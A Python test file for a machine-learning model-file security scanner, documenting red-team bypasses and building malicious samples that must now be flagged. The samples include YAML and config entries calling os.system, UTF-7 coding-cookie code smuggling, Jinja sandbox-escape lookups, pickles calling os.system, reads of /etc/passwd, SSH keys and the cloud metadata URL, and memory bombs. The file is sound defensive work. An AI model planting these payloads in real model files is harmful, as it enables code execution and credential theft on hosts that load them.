"""Bypasses found by the session-5 red team (one regression test per class, with generated variants).
Each sample is built here from bytes; nothing is loaded. Every malicious sample scanned ``safe`` before the fix.

- **Configs that name an object to import and call.** Hydra/OmegaConf ``instantiate`` imports and calls any
  ``_target_`` (NeMo's ``model_config.yaml`` inside a ``.nemo`` tar; configs in ``config.json`` or safetensors
  ``__metadata__``, the Unit 42 2025 class); jsonargparse/LightningCLI do the same with ``class_path``; Hugging
  Face ``auto_map`` makes ``trust_remote_code`` import code, also from *another* repository
  (``owner/repo--module.Class``); sentence-transformers imports every ``type`` of ``modules.json``. All were
  "text" (safe). Each name is now judged like a pickle global.
- **YAML Python tags.** ``!!python/object/apply:os.system`` (also through a ``%TAG`` directive or a verbatim tag)
  runs under ``yaml.unsafe_load`` and under PyYAML < 5.4's ``full_load`` (PyTorch Lightning's ``hparams.yaml``
  reader); such files were "text" (safe). The node graph is now composed (nothing constructed) and every Python
  tag naming an object is judged like a pickle global.
- **Keras preprocessing layers that read a path or URL.** ``StringLookup``/``IntegerLookup``/``TextVectorization``
  read a string ``vocabulary`` as a file (CVE-2025-12058: local file read and SSRF, even under ``safe_mode``);
  the ``.keras`` config scanned safe. (Not loaded here: the layer needs TensorFlow, which is not installed.)
- **TensorFlow file and network ops.** Only ten I/O ops were known; a SavedModel whose signature runs
  ``DatasetToTFRecord``, ``SaveDataset``, ``SqlDataset``, ``TFRecordDataset``, readers, RPC ops or a ``PrintV2``
  writing to ``file://...`` scanned safe.
- **Python source with a coding cookie.** ``# coding: utf-7`` makes ``#+AAo-import os+ADs-os.system(...)`` two
  statements for the interpreter (checked: ``python3`` runs such a file), while the scanner decoded UTF-8 and saw
  one comment: "text" (safe). The source is now decoded as Python decodes it.
- **TorchScript file operators, and blanks around dots.** ``aten::save`` and ``aten::from_file`` are the only
  TorchScript operators that take a file name; a scripted module calling ``torch.from_file(path, True, n)`` and
  writing to the tensor overwrote the file when ``torch.jit.load(...)(x)`` ran (checked here with a file under
  ``/tmp``), and scanned safe. TorchScript's lexer also accepts ``torch . ops . ns . op`` and backslash-newlines
  (checked with ``torch.jit.CompilationUnit``), which the custom-namespace pattern missed.
- **diffusers and transformers pipelines.** ``model_index.json`` pairs ``[library, class]`` are imported by
  name; ``custom_pipelines[...].impl`` is code for ``trust_remote_code`` (also from another repository).
- **Compiled Python bytecode.** A ``.pyc`` was "unrecognised binary data" (low, safe). Python imports a sourceless
  ``.pyc`` found on ``sys.path`` (an MLflow ``code`` folder) and, for an unchecked-hash ``.pyc`` in
  ``__pycache__``, runs it instead of the reviewed ``.py`` (checked here). Now medium (code, not verifiable
  without ``marshal``, which is itself unsafe on untrusted bytes).
- **Python files without imports or definitions.** A ``model.py`` of top-level statements only
  (``open(...).write(...)``, ``__builtins__.__dict__["ev" + "al"](...)``) was "text" (safe): the medium rule needed
  an import or a definition. Any ``.py`` that is not inert (docstrings, ``pass``, literal assignments) is now
  medium, and names that reach the interpreter's namespaces (``__builtins__``, ``__globals__``,
  ``__subclasses__``) are high.
- **Text that starts as a complete pickle.** ``((N)).__class__...`` is MARK, NONE, TUPLE, TUPLE, STOP to the
  unpickler and Python to the interpreter; ``(N). : 1`` heads a valid YAML. The file was called a harmless pickle
  and its text was never read. Text-like bytes that parse as a pickle are now also scanned as text.
- **zstd, and pickles that start like a compressed stream.** ``pandas.read_pickle("model.pkl.zst")`` decompresses
  zstd and unpickles (checked): such a file was "unrecognised binary data" (safe). And the scanner trusted a
  compression magic: a pickle starting ``BZh9`` (BINBYTES over 3.7 MB) or ``V*M\\x18`` (a zstd skippable frame
  to joblib, a unicode string to ``pickle.load``) that does not decompress was "compressed data that is not a
  pickle" (safe) while ``pickle.load`` ran it (checked). The bytes are now also scanned as they are.
- **Archive members the scanner skipped.** A tar member of a type tarfile does not know (``Z``) is a regular file
  to ``extractfile``/``extract`` (torch.load's legacy tar path unpickled one, checked) but ``isfile()`` is False, so
  it was skipped: safe. A zip member whose mode says symlink was reported (high) and not read, while ``np.load``
  read and ran it (checked): ``--fail-on critical`` passed. Both are now scanned.
- **Chat-template renders that exhaust memory.** The one sample render bounded loops and ``*`` only: forty
  ``{% set k = k ~ k %}`` (or ``+``, ``replace('', k)``, ``center(3e9)``, ``'%3000000000s'``, ``'{:>3000000000}'``)
  asked for gigabytes to terabytes and the scanner was killed (in CI, in ``load_model``'s gate). Concatenation is
  compiled through a bounded join, and binops, calls, ``str.format`` and every filter check sizes before and after.
- **Protocol-0 text arguments over 1 MiB.** The emulator read text lines up to 1 MiB and called a longer one
  malformed, which refuted the file as a pickle: a 2 MB ``V`` line followed by ``os.system`` was "text" (safe) while
  ``pickle.loads`` ran it (checked). Lines are now read whole, charged to the memory budget as they are read.
- **Compressed streams that break after the payload.** ``joblib.load`` unpickles while it decompresses, so a
  ``REDUCE`` before a truncated or corrupt tail runs before the ``EOFError`` (checked for gzip, bz2, xz, zlib). The
  decompression error replaced every finding and the file was "compressed data that is not a pickle" (safe) for
  gzip, bz2 and xz. The stream now ends at the break and what was read before it is kept. The same for a zip
  member (``np.load`` of an object array whose deflate data breaks after the call: "member cannot be read", high
  only): what inflates before the break is scanned.
- **Chat-template lookups the sample render does not reach.** The static check saw only constant keys; a key
  assembled at render time (``''['__cla' ~ 'ss__']``, ``set``/``namespace``/loop/macro/``format``/``join``/slice)
  or an attribute path handed to ``map``/``selectattr``/``sort``... (``map(attribute='__class__')``) inside a
  branch the sample messages do not take was never evaluated: safe. Keys the template itself chooses or builds
  are now followed statically, and attribute-path filters are checked like ``attr``.
"""

from __future__ import annotations

import io
import json
import struct
import tarfile
import zipfile
from pathlib import Path
from typing import Any

import pytest
from protobuf_bytes import msg as _msg
from protobuf_bytes import vint as _vint
from scan_helpers import scan_named

from mlsecure.artifacts.scan import Verdict, scan_file
from mlsecure.artifacts.scan.interface import IssueKind
from mlsecure.findings import Severity

_scan = scan_named


def _safetensors(metadata: dict[str, str]) -> bytes:
    header = json.dumps({"__metadata__": metadata,
                         "w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}).encode()
    return struct.pack("<Q", len(header)) + header + b"\0" * 4


def _tar_gz(members: dict[str, str]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as archive:
        for name, text in members.items():
            raw = text.encode()
            info = tarfile.TarInfo(name)
            info.size = len(raw)
            archive.addfile(info, io.BytesIO(raw))
    return buf.getvalue()


# --- configs naming an object to import -------------------------------------------------------------------

HYDRA_YAML = "model:\n  _target_: {target}\n  _args_: ['true']\n"
HYDRA_ESCAPED_YAML = 'model:\n  "\\x5ftarget_": {target}\n'  # YAML escapes spell the key
HYDRA_SPLIT_YAML = 'model:\n  ? "_tar\\\n    get_"\n  : {target}\n'  # an escaped line break joins the key
TARGETS = {"os.system": Severity.CRITICAL, "builtins.exec": Severity.CRITICAL, "subprocess.Popen": Severity.CRITICAL,
           "my_pkg.hooks.Activate": Severity.MEDIUM}


@pytest.mark.parametrize(("target", "severity"), list(TARGETS.items()))
@pytest.mark.parametrize("container", ["yaml", "yaml_escaped", "yaml_split", "json", "json_escaped",
                                       "class_path", "safetensors_json", "safetensors_yaml", "nemo"])
def test_config_targets_are_judged(tmp_path: Path, target: str, severity: Severity, container: str) -> None:
    yaml_text = HYDRA_YAML.format(target=target)
    json_text = json.dumps({"model": {"_target_": target, "_args_": ["true"]}})
    samples: dict[str, tuple[str, bytes | str]] = {
        "yaml": ("model_config.yaml", yaml_text),
        "yaml_escaped": ("conf.yml", HYDRA_ESCAPED_YAML.format(target=target)),
        "yaml_split": ("model_config.yaml", HYDRA_SPLIT_YAML.format(target=target)),
        "json": ("config.json", json_text),
        "json_escaped": ("config.json", json_text.replace("_target_", "\\u005ftarget_")),
        "class_path": ("cli_config.yaml", f"model:\n  class_path: {target}\n  init_args: {{}}\n"),
        "safetensors_json": ("model.safetensors", _safetensors({"config": json_text})),
        "safetensors_yaml": ("model.safetensors", _safetensors({"config": yaml_text})),
        "nemo": ("model.nemo", _tar_gz({"model_config.yaml": yaml_text, "model_weights.ckpt": "x"})),
    }
    name, data = samples[container]
    verdict, top, titles = _scan(tmp_path, name, data)
    assert top is severity, titles
    assert verdict is not Verdict.SAFE
    assert any(target in t for t in titles), titles


def test_allowlisted_target_and_plain_configs_stay_safe(tmp_path: Path) -> None:
    assert _scan(tmp_path, "a.yaml", HYDRA_YAML.format(target="collections.OrderedDict"))[1] is Severity.INFO
    for name, text in [("b.yaml", "trainer:\n  max_epochs: 3\n  target: val_loss\n"),
                       ("config.json", json.dumps({"architectures": ["BertModel"], "model_type": "bert"})),
                       ("c.yml", "a: [1, 2\n")]:  # invalid YAML: no loader instantiates it
        verdict, top, titles = _scan(tmp_path, name, text)
        assert verdict is Verdict.SAFE and top <= Severity.LOW, (name, titles)


@pytest.mark.parametrize(("name", "text", "severity"), [
    ("hparams.yaml", 'a: !!python/object/apply:os.system ["true"]\n', Severity.CRITICAL),
    ("hparams.yaml", "%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:subprocess.call [[x]]\n",
     Severity.CRITICAL),
    ("notes.txt", 'a: !<tag:yaml.org,2002:python/name:os.system> ""\n', Severity.CRITICAL),
    ("hparams.yml", "a: !!python/object/new:my_pkg.Thing {}\n", Severity.MEDIUM),
    ("hparams.yaml", "b: &x !!python/object/apply:builtins.exec ['1']\nc: [*x, *x]\n", Severity.CRITICAL),
])
def test_yaml_python_tags(tmp_path: Path, name: str, text: str, severity: Severity) -> None:
    """PyTorch Lightning reads hparams.yaml with ``yaml.full_load``: before PyYAML 5.4 that constructs python
    tags (CVE-2020-14343); ``yaml.unsafe_load`` always does. The safe loader the scanner used refused them, so the
    file was unparsed "text" (safe)."""
    verdict, top, titles = _scan(tmp_path, name, text)
    assert top is severity and verdict is not Verdict.SAFE, titles


def test_yaml_plain_python_types_are_safe(tmp_path: Path) -> None:
    verdict, top, titles = _scan(tmp_path, "hparams.yaml", "lr: 0.1\nlayers: !!python/tuple [1, 2]\n")
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


def test_config_over_the_parse_limit_is_cannot_verify(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from mlsecure.artifacts.scan import config_documents

    monkeypatch.setattr(config_documents, "MAX_CONFIG_CHARS", 100)
    text = "pad: '" + "x" * 200 + "'\nm:\n  _target_: os.system\n"
    verdict, top, titles = _scan(tmp_path, "big.yaml", text)
    assert top is Severity.MEDIUM and verdict is not Verdict.SAFE, titles
    assert _scan(tmp_path, "plain.yaml", "pad: '" + "x" * 200 + "'\n")[0] is Verdict.SAFE


def test_yaml_alias_bomb_is_walked_once_per_node(tmp_path: Path) -> None:
    lines = ["a0: &a0 [x, x]"] + [f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}]" for i in range(1, 60)]
    text = "\n".join(lines) + "\nm:\n  _target_: os.system\n"
    verdict, top, _ = _scan(tmp_path, "bomb.yaml", text)  # 2**60 paths if walked naively
    assert verdict is Verdict.MALICIOUS and top is Severity.CRITICAL


@pytest.mark.parametrize(("auto_map", "severity"), [
    ({"AutoModel": "attacker/other-repo--modeling_x.XModel"}, Severity.HIGH),
    ({"AutoTokenizer": [None, "attacker/r--tok.Fast"]}, Severity.HIGH),
    ({"AutoModel": "modeling_x.XModel"}, Severity.MEDIUM),
])
def test_hf_auto_map_is_reported(tmp_path: Path, auto_map: dict[str, Any], severity: Severity) -> None:
    config = {"architectures": ["XModel"], "model_type": "x", "auto_map": auto_map}
    verdict, top, titles = _scan(tmp_path, "config.json", json.dumps(config))
    assert top is severity and verdict is not Verdict.SAFE, titles


@pytest.mark.parametrize(("module_type", "severity"), [
    ("os.system", Severity.CRITICAL), ("custom_st.Pooler", Severity.MEDIUM),
    ("sentence_transformers.models.Pooling", Severity.INFO)])
def test_sentence_transformers_modules_json(tmp_path: Path, module_type: str, severity: Severity) -> None:
    modules = [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
               {"idx": 1, "name": "1", "path": "1_Pooling", "type": module_type}]
    assert _scan(tmp_path, "modules.json", json.dumps(modules))[1] is severity


# --- Keras layers reading a path or URL -------------------------------------------------------------------

def _keras(layer_class: str, argument: str, value: Any) -> bytes:
    layer = {"module": "keras.layers", "class_name": layer_class, "registered_name": None,
             "config": {"name": "l", argument: value}}
    model = {"module": "keras", "class_name": "Sequential", "registered_name": None,
             "config": {"name": "s", "layers": [layer]}}
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1"}))
        archive.writestr("config.json", json.dumps(model))
        archive.writestr("model.weights.h5", b"")
    return buf.getvalue()


@pytest.mark.parametrize(("layer_class", "argument", "value"), [
    ("StringLookup", "vocabulary", "/etc/passwd"), ("IntegerLookup", "vocabulary", "../../secrets.txt"),
    ("TextVectorization", "vocabulary", "http://169.254.169.254/latest/meta-data/"),
    ("BytePairTokenizer", "merges", "/home/user/.ssh/id_rsa")])
def test_keras_layer_reading_a_path_is_high(tmp_path: Path, layer_class: str, argument: str, value: str) -> None:
    verdict, top, titles = _scan(tmp_path, "model.keras", _keras(layer_class, argument, value))
    assert top is Severity.HIGH and verdict is Verdict.MALICIOUS, titles


@pytest.mark.parametrize(("module", "function", "severity"), [
    ("keras.src.utils.python_utils", "func_load", Severity.CRITICAL),  # what Lambda uses to unmarshal bytecode
    ("keras.src.utils.image_utils", "save_img", Severity.HIGH),
    ("keras.src.saving.saving_api", "save_weights", Severity.HIGH),
    ("keras.src.utils.model_visualization", "plot_model", Severity.HIGH),
    ("keras.src.utils.image_utils", "load_img", Severity.MEDIUM),
])
def test_keras_side_effecting_functions(tmp_path: Path, module: str, function: str, severity: Severity) -> None:
    layer = {"module": "keras.layers", "class_name": "Activation", "registered_name": None,
             "config": {"name": "a", "activation": {"module": module, "class_name": "function", "config": function,
                                                    "registered_name": "function"}}}
    model = {"module": "keras", "class_name": "Sequential", "registered_name": None,
             "config": {"name": "s", "layers": [layer]}}
    assert _scan(tmp_path, "config.json", json.dumps(model))[1] is severity


def test_keras_inline_vocabulary_is_safe(tmp_path: Path) -> None:
    verdict, top, titles = _scan(tmp_path, "model.keras", _keras("StringLookup", "vocabulary", ["a", "b"]))
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


# --- TensorFlow file and network ops ----------------------------------------------------------------------

def _savedmodel(op: str, attrs: bytes = b"") -> bytes:
    node = _msg(1, b"n0") + _msg(2, op.encode()) + attrs
    meta = _msg(1, _msg(4, b"serve") + _msg(2, b"tensorflow")) + _msg(2, _msg(1, node))
    return _vint(1, 1) + _msg(2, meta)


def _attr(key: str, text: str) -> bytes:
    return _msg(5, _msg(1, key.encode()) + _msg(2, _msg(2, text.encode())))


@pytest.mark.parametrize(("op", "severity"), [
    ("DatasetToTFRecord", Severity.HIGH), ("SaveDataset", Severity.HIGH), ("SqlDataset", Severity.HIGH),
    ("CreateSummaryDbWriter", Severity.HIGH), ("RpcCall", Severity.HIGH), ("TFRecordDataset", Severity.MEDIUM),
    ("FixedLengthRecordDatasetV2", Severity.MEDIUM), ("WholeFileReaderV2", Severity.MEDIUM),
    ("DebugIdentityV3", Severity.MEDIUM), ("LoadDataset", Severity.MEDIUM)])
def test_savedmodel_file_and_network_ops(tmp_path: Path, op: str, severity: Severity) -> None:
    verdict, top, titles = _scan(tmp_path, "saved_model.pb", _savedmodel(op))
    assert top is severity and verdict is not Verdict.SAFE, titles


def test_savedmodel_printv2_to_a_file_is_high(tmp_path: Path) -> None:
    to_file = _savedmodel("PrintV2", _attr("output_stream", "file:///home/user/.bashrc"))
    assert _scan(tmp_path, "a/saved_model.pb", to_file)[1] is Severity.HIGH
    to_stderr = _savedmodel("PrintV2", _attr("output_stream", "stderr"))
    assert _scan(tmp_path, "b/saved_model.pb", to_stderr)[1] is Severity.LOW


def test_savedmodel_saver_ops_stay_safe(tmp_path: Path) -> None:
    for op in ("SaveV2", "RestoreV2", "MergeV2Checkpoints", "ShardedFilename"):  # in every real SavedModel
        verdict, _, titles = _scan(tmp_path, f"{op}/saved_model.pb", _savedmodel(op))
        assert verdict is Verdict.SAFE, titles


# --- Python source coding cookies -------------------------------------------------------------------------

@pytest.mark.parametrize("source", [
    b"# -*- coding: utf-7 -*-\n#+AAo-import os+ADs-os.system('true')\n",
    b"#!/usr/bin/env python\n# vim: set fileencoding=utf-7 :\n"
    b"#+AAo-import subprocess+ADs-subprocess.run(+AFs-'true'+AF0-)\n",
])
@pytest.mark.parametrize("name", ["model.py", "modeling_x.py", "code/loader.py"])
def test_python_coding_cookie_is_honoured(tmp_path: Path, source: bytes, name: str) -> None:
    verdict, top, titles = _scan(tmp_path, name, source)
    assert top is Severity.HIGH and verdict is Verdict.MALICIOUS, titles


@pytest.mark.parametrize(("source", "severity"), [
    ('open("/home/u/.bashrc", "a").write("curl x | sh")\n', Severity.MEDIUM),  # no import, no def: was "text"
    ("print(len([1, 2]))\n", Severity.MEDIUM),
    ("__builtins__.__dict__['ev' + 'al']('1 + 1')\n", Severity.HIGH),
    ("(lambda: 0).__globals__['__buil' + 'tins__']\n", Severity.HIGH),
    ("().__class__.__base__.__subclasses__()\n", Severity.HIGH),
])
@pytest.mark.parametrize("name", ["model.py", "modeling_x.py"])
def test_python_top_level_statements_are_code(tmp_path: Path, source: str, severity: Severity, name: str) -> None:
    verdict, top, titles = _scan(tmp_path, name, source)
    assert top is severity and verdict is not Verdict.SAFE, titles


@pytest.mark.parametrize("source", ['"""Package."""\n', "pass\n", '__version__ = "1.2"\nLABELS: list = ["a", "b"]\n',
                                    ""])
def test_inert_python_stays_safe(tmp_path: Path, source: str) -> None:
    verdict, top, titles = _scan(tmp_path, "__init__.py", source)
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


# A text whose first bytes are a complete, harmless pickle (``(``, ``N``, ``)``, ``.`` are MARK, NONE, EMPTY_TUPLE,
# STOP) was called a pickle, and the Python, YAML or template it also is was never read.
POLYGLOTS = [
    ("model.py", "((N)).__class__.__base__.__subclasses__()\n", Severity.HIGH),
    ("modeling_x.py", "().__class__\nimport os\nos.system('true')\n", Severity.HIGH),
    ("model_config.yaml", "(N). : 1\nmodel:\n  _target_: os.system\n", Severity.CRITICAL),
    ("chat_template.jinja", "(). {% if tools %}{{ ''['__cla' ~ 'ss__'] }}{% endif %}\n", Severity.CRITICAL),
]


@pytest.mark.parametrize(("name", "text", "severity"), POLYGLOTS)
@pytest.mark.parametrize("zipped", [False, True])
def test_text_that_starts_as_a_pickle_is_read_as_text_too(tmp_path: Path, name: str, text: str, severity: Severity,
                                                          zipped: bool) -> None:
    import pickle

    assert pickle.loads(text.encode()) in ((), None)  # a complete pickle (not loaded from disk, built here)
    if zipped:
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as archive:
            archive.writestr(f"model/code/{name}" if name.endswith(".py") else f"model/{name}", text)
        verdict, top, titles = _scan(tmp_path, "model.zip", buf.getvalue())
    else:
        verdict, top, titles = _scan(tmp_path, name, text)
    assert top is severity and verdict is Verdict.MALICIOUS, titles


def test_python_unknown_coding_is_not_a_crash(tmp_path: Path) -> None:
    _, top, titles = _scan(tmp_path, "model.py", b"# coding: no-such-codec\nx = 1\n")
    assert top <= Severity.MEDIUM and not any("scanner could not" in t for t in titles)


# --- chat templates: lookups in branches the sample render skips -------------------------------------------

UNTAKEN = "{% if tools %}BODY{% endif %}{{ messages[0].content }}"
TEMPLATE_BODIES = [
    "{{ ''['__cla' ~ 'ss__'] }}",
    "{% set k = '__cla' ~ 'ss__' %}{{ ''[k] }}",
    "{% set k %}__class__{% endset %}{{ ''[k] }}",
    "{% set ns = namespace(k='') %}{% for c in ['__cla', 'ss__'] %}{% set ns.k = ns.k ~ c %}{% endfor %}{{ ''[ns.k] }}",
    "{% for c in ['__class__'] %}{{ ''[c] }}{% endfor %}",
    "{% macro k() %}__class__{% endmacro %}{{ ''[k()] }}",
    "{{ ''['%c%cclass%c%c'|format(95, 95, 95, 95)] }}",
    "{{ ''[['_', '_class__']|join] }}",
    "{{ ''['__CLASS__'.lower()] }}",
    "{{ ''['xx__class__'[2:]] }}",
    "{{ messages|map(attribute='__class__')|list }}",
    "{{ messages|map(attribute='content.__class__.__mro__')|list }}",
    "{{ messages|selectattr('__class__')|list }}",
    "{{ messages|sort(attribute='__init__.__globals__')|list }}",
    "{{ messages|groupby('__class__')|list }}",
    "{{ ('{0.' ~ '__class__}').format(messages) }}",
    "{% set f = '{0.' %}{{ (f ~ '__init__.__globals__}').format(cycler) }}",
]


@pytest.mark.parametrize("body", TEMPLATE_BODIES)
@pytest.mark.parametrize("container", ["tokenizer_config.json", "chat_template.jinja", "gguf"])
def test_chat_template_lookup_in_untaken_branch(tmp_path: Path, body: str, container: str) -> None:
    template = UNTAKEN.replace("BODY", body)
    if container == "gguf":
        key, value = b"tokenizer.chat_template", template.encode()
        data = (b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + struct.pack("<Q", len(key)) + key
                + struct.pack("<I", 8) + struct.pack("<Q", len(value)) + value)
        verdict, top, titles = _scan(tmp_path, "model.gguf", data)
    elif container == "tokenizer_config.json":
        verdict, top, titles = _scan(tmp_path, container, json.dumps({"chat_template": template}))
    else:
        verdict, top, titles = _scan(tmp_path, container, template)
    assert top is Severity.CRITICAL and verdict is Verdict.MALICIOUS, titles


def test_chat_template_key_analysis_is_linear(tmp_path: Path) -> None:
    """``{% set k = k ~ k %}`` 40 times: walked once per path, the first version of the key analysis took
    minutes (found while red-teaming this fix); memoised per node it is immediate."""
    import time

    template = "{% set k = 'a' %}" + "{% set k = k ~ k %}" * 40 + "{% if tools %}{{ x[k] }}{% endif %}"
    started = time.process_time()
    verdict, top, _ = _scan(tmp_path, "tokenizer_config.json", json.dumps({"chat_template": template}))
    assert time.process_time() - started < 2.0
    assert top is Severity.CRITICAL and verdict is Verdict.MALICIOUS  # a key built from the template's strings


def test_chat_template_assignment_chain_deeper_than_the_stack(tmp_path: Path) -> None:
    chain = "".join(f"{{% set k{i + 1} = k{i} ~ '' %}}" for i in range(5000))
    template = "{% set k0 = '__class__' %}" + chain + "{% if tools %}{{ x[k5000] }}{% endif %}"
    verdict, top, titles = _scan(tmp_path, "chat_template.jinja", template)
    assert top is Severity.CRITICAL and verdict is Verdict.MALICIOUS, titles


RENDER_BOMBS = {
    "concat": "{% set k = 'a' %}" + "{% set k = k ~ k %}" * 40 + "{{ k|length }}",
    "plus": "{% set k = 'a' %}" + "{% set k = k + k %}" * 40 + "{{ k|length }}",
    "center_filter": "{{ 'a'|center(3000000000)|length }}",
    "center_method": "{{ 'a'.center(3000000000)|length }}",
    "replace": "{% set k = 'ab' * 2000 %}{% set k = k|replace('', k) %}{% set k = k|replace('', k) %}{{ k|length }}",
    "percent_width": "{{ ('%3000000000s' % 'x')|length }}",
    "format_width": "{{ '{:>3000000000}'.format('x')|length }}",
    "list_doubling": "{% set k = ['aaaaaaaaaa'] %}" + "{% set k = k + k %}" * 40 + "{{ k|join|length }}",
}


@pytest.mark.parametrize("name", sorted(RENDER_BOMBS))
def test_chat_template_render_is_bounded_in_size(tmp_path: Path, name: str) -> None:
    """The sample render bounded loops and ``*`` but not ``~``, ``+``, ``%``, ``str.format`` widths or filters: the
    first sample here asked for a terabyte and the scanner process was killed (pre-existing; found when the
    session-5 regression tests were run against the old scanner). Now each is "cannot verify" (medium) at once."""
    import time

    started = time.process_time()
    verdict, top, titles = _scan(tmp_path, "chat_template.jinja", RENDER_BOMBS[name])
    assert time.process_time() - started < 2.0
    assert top is Severity.MEDIUM and verdict is Verdict.SUSPICIOUS, titles


BENIGN_TEMPLATES = [
    "{% for m in messages %}{% for key in m %}{{ m[key] }}{% endfor %}{{ m['content'] }}{% endfor %}",
    "{{ messages|map(attribute='content')|join(' ') }}{{ messages|map('replace', '_', ' ')|list }}",
    "{{ messages|selectattr('role', 'equalto', '_x')|list }}{{ messages|sort(attribute='role')|list }}",
    "{% for m in messages %}{{ messages[loop.index0 - 1]['content'] }}{{ m[m['role']] }}{% endfor %}",
    "{% set i = 0 %}{{ messages[i].content }}{% if tools %}{{ tools[messages[0]['content']] }}{% endif %}",
    "{{ '<|{}|>'.format(messages[0]['role']) }}",
]


@pytest.mark.parametrize("template", BENIGN_TEMPLATES)
def test_chat_template_data_driven_lookups_stay_safe(tmp_path: Path, template: str) -> None:
    verdict, top, titles = _scan(tmp_path, "tokenizer_config.json", json.dumps({"chat_template": template}))
    assert verdict is Verdict.SAFE and top <= Severity.LOW, titles


# --- diffusers model_index.json, transformers custom_pipelines ---------------------------------------------

@pytest.mark.parametrize(("pair", "severity"), [(["os", "system"], Severity.CRITICAL),
                                                (["my_lib", "Unet"], Severity.MEDIUM),
                                                (["diffusers", "UNet2DConditionModel"], Severity.INFO)])
def test_diffusers_model_index_pairs(tmp_path: Path, pair: list[str], severity: Severity) -> None:
    index = {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.30.0", "unet": pair,
             "text_encoder": ["transformers", "CLIPTextModel"], "safety_checker": [None, None]}
    assert _scan(tmp_path, "model_index.json", json.dumps(index))[1] is severity


def test_custom_pipeline_from_another_repository(tmp_path: Path) -> None:
    config = {"model_type": "x", "custom_pipelines": {"p": {"impl": "attacker/r--pipe.P", "pt": ["AutoModel"]}}}
    assert _scan(tmp_path, "config.json", json.dumps(config))[1] is Severity.HIGH


# --- TorchScript operators that take a file name, and blanks around dots -----------------------------------

def _torchscript(tmp_path: Path, body: str) -> tuple[Verdict, Severity, list[str]]:
    code = ("class Net(Module):\n  __parameters__ = []\n  def forward(self: __torch__.Net, x: Tensor) -> Tensor:\n"
            f"    {body}\n    return x\n")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        archive.writestr("ts/code/__torch__.py", code)
        archive.writestr("ts/constants.pkl", b"\x80\x02)\x85.")
        archive.writestr("ts/data.pkl", b"\x80\x02}q\x00.")
        archive.writestr("ts/version", "3\n")
    return _scan(tmp_path, "ts.pt", buf.getvalue())


@pytest.mark.parametrize(("body", "severity"), [
    ('t = torch.from_file("/home/u/.bashrc", True, 4, dtype=0)', Severity.HIGH),  # what torch.jit.save writes
    ('torch.save(x, "/tmp/out.pt")', Severity.HIGH),
    ('t = torch . from_file("/etc/passwd")', Severity.HIGH),
    ('t = ops.aten.\\\n      from_file("/etc/passwd")', Severity.HIGH),
    ("y = torch . ops . evil_ns . run(x)", Severity.MEDIUM),  # compiles: TorchScript skips blanks around dots
    ("y = torch.ops.\\\n      evil_ns.run(x)", Severity.MEDIUM),
    ("y = torch.ops.aten.relu(x)", Severity.INFO),
    ("y = self.saved(x)", Severity.INFO),
])
def test_torchscript_file_operators_and_spaced_namespaces(tmp_path: Path, body: str, severity: Severity) -> None:
    _, top, titles = _torchscript(tmp_path, body)
    assert top is severity, titles


# --- compiled Python bytecode ------------------------------------------------------------------------------

@pytest.mark.parametrize("mode", ["TIMESTAMP", "CHECKED_HASH", "UNCHECKED_HASH"])
@pytest.mark.parametrize("name", ["code/__pycache__/loader.cpython-311.pyc", "loader.pyc", "weights.bin"])
def test_python_bytecode_is_code(tmp_path: Path, mode: str, name: str) -> None:
    """An unchecked-hash .pyc in __pycache__ runs instead of a reviewed .py (checked: ``import m`` printed the
    .pyc's text, not m.py's); a sourceless .pyc on sys.path (an MLflow code folder) is imported as is."""
    import py_compile

    source = tmp_path / "src.py"
    source.write_text("import os\nos.system('true')\n")
    compiled = tmp_path / "out.pyc"
    py_compile.compile(str(source), cfile=str(compiled), invalidation_mode=py_compile.PycInvalidationMode[mode])
    verdict, top, titles = _scan(tmp_path, name, compiled.read_bytes())
    assert top is Severity.MEDIUM and verdict is not Verdict.SAFE, titles


def test_binary_data_with_crlf_is_not_bytecode(tmp_path: Path) -> None:
    verdict, top, titles = _scan(tmp_path, "blob.bin", b"\xa7\x0d\r\n" + b"\x00" * 60)
    assert verdict is Verdict.SAFE and top is Severity.LOW, titles


# --- zstd, and pickles that start like a compressed stream -------------------------------------------------

CALL_PRINT = b"cbuiltins\nprint\n(S'x'\ntR."  # a stand-in import: any global the allowlist lacks is reported
CALL_SYSTEM = b"cos\nsystem\n(S'true'\ntR."


def test_zstd_pickle_is_decompressed(tmp_path: Path) -> None:
    """pandas.read_pickle("model.pkl.zst") decompresses and unpickles (checked with builtins.print): it was
    "unrecognised binary data" (low, safe)."""
    zstandard = pytest.importorskip("zstandard")
    frames = zstandard.ZstdCompressor().compress(b"\x80\x02N.") + zstandard.ZstdCompressor().compress(CALL_SYSTEM)
    verdict, top, titles = _scan(tmp_path, "model.pkl.zst", frames)  # the payload in a second frame
    assert top is Severity.CRITICAL and verdict is Verdict.MALICIOUS, titles


def test_zstd_without_zstandard_fails_closed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import importlib.util

    real = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec", lambda name, *a: None if name == "zstandard" else real(name, *a))
    verdict, top, titles = _scan(tmp_path, "model.pkl.zst", b"\x28\xb5\x2f\xfd" + b"\x00" * 40)
    assert top is Severity.HIGH and verdict is not Verdict.SAFE, titles


@pytest.mark.parametrize(("prefix", "name"), [
    (b"V*M\x18 a zstd skippable frame to joblib, a unicode string to pickle\n0", "model.pkl"),
    (b"B" + b"Zh9\x00" + b"A" * 0x0039685A + b"0", "model.bin"),  # BZh9...: BINBYTES of 3.7 MB, then the payload
])
def test_pickle_that_starts_like_a_compressed_stream(tmp_path: Path, prefix: bytes, name: str) -> None:
    """joblib reads the magic and fails to decompress; pickle.load / torch.load read the bytes as opcodes and run
    the call (checked with builtins.print). The scanner took the magic's word: "compressed data that is not a
